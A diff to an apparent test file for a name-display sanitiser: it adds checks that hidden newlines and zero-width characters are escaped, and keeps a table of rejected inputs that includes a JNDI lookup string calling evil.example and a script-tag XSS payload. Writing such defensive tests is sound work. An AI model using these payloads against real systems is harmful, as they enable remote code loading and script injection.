@@ -93,10 +93,15 @@ describe('[D77] a name that nobody vouches for', () => {
     'text/plain; charset=utf-8',
   ])('%j is shown', (value) => expect(toldName(value)).toBe(value));
 
+  it('shows what has slipped into it unseen', () => {
+    expect(toldName('k1\n')).toBe('k1\\u{a}');
+    expect(toldName('k\u200b1')).toBe('k\\u{200b}1');
+    expect(toldName('k '.repeat(200))).toHaveLength(200);
+  });
+
   it.each([
     ['${jndi:ldap://evil.example/x}', '(29 characters that make no name)'],
     ['<script>alert(1)</script>', '(25 characters that make no name)'],
-    ['two\nlines', '(9 characters that make no name)'],
     ['somebody＠private.example', '(24 characters that make no name)'],
     ['somebody@corp', '(13 characters that make no name)'],
     ['eyAiYWxnIjoiRVMyNTYifQ.eyAiaXNzIjoiYSJ9.c2ln', '(not shown: it looks like a token)'],
